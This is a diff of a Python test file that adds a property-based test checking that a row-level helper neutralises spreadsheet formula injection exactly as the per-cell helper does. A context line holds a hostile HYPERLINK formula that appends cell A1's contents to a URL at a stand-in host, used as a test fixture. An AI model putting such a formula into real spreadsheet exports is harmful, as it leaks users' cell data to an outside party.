@@ -6,9 +6,12 @@ import csv
 import io
 from pathlib import Path
 
+from hypothesis import given
+from hypothesis import strategies as st
+
 from perfgoals.actuals.reader import read_actuals
 from perfgoals.language.parser import parse_file
-from perfgoals.tables.cells import inert, restored
+from perfgoals.tables.cells import inert, inert_row, restored
 from tests.cli_process import assert_clean, run_cli
 
 HOSTILE_PROJECT = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
@@ -118,3 +121,17 @@ def test_inert_and_restored_are_inverse_and_leave_numbers_alone() -> None:
         assert restored(inert(text)) == text
     assert inert("-5") == "-5"
     assert inert("=1+1") == "'=1+1"
+
+
+_CELL = st.one_of(
+    st.none(),
+    st.integers(),
+    st.text(alphabet="'=+-@\t\r\n0123456789.,%名a "),
+    st.text(),
+)
+
+
+@given(st.lists(_CELL, max_size=6))
+def test_a_row_is_marked_as_each_of_its_cells_alone(cells: list[object]) -> None:
+    # inert_row settles most cells by their first character; it must agree with inert.
+    assert inert_row(cells) == [inert("" if c is None else str(c)) for c in cells]
